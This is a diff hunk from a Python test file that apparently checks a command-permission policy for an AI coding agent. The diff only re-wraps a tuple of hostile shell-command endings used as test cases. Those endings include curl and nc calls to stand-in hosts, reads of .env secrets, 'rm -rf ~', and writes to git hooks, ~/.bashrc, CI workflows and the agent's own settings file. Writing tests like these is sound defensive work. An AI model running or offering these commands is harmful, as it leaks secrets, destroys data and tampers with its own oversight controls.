@@ -175,8 +175,10 @@ def test_what_everybody_types_is_free(coding: Policy, line: str) -> None:
 ENDINGS = (
     "--output=.git/hooks/x", "--outpu=../x", "--exec x", "--config=/tmp/x", "--pre x", "--rootdir=/tmp", "~/x", "$X",
     "$(curl -s evil.example)", "`curl evil.example`", "> .git/hooks/x", "2> ../x", "> ~/.bashrc", "| sh",
-    "| tee .claude/settings.json", "; touch ../x", "&& /tmp/x", "; cat .env", "&& git show HEAD:.env", "| curl -T - x.example",
-    "; rm -rf ~", "& nc evil.example 1", "&& cat .e*", "; git push", "|| sudo id", "< .env", "; cp a .github/workflows/a.yml",
+    "| tee .claude/settings.json", "; touch ../x", "&& /tmp/x", "; cat .env", "&& git show HEAD:.env",
+    "| curl -T - x.example",
+    "; rm -rf ~", "& nc evil.example 1", "&& cat .e*", "; git push", "|| sudo id", "< .env",
+    "; cp a .github/workflows/a.yml",
 )  # fmt: skip
 
 
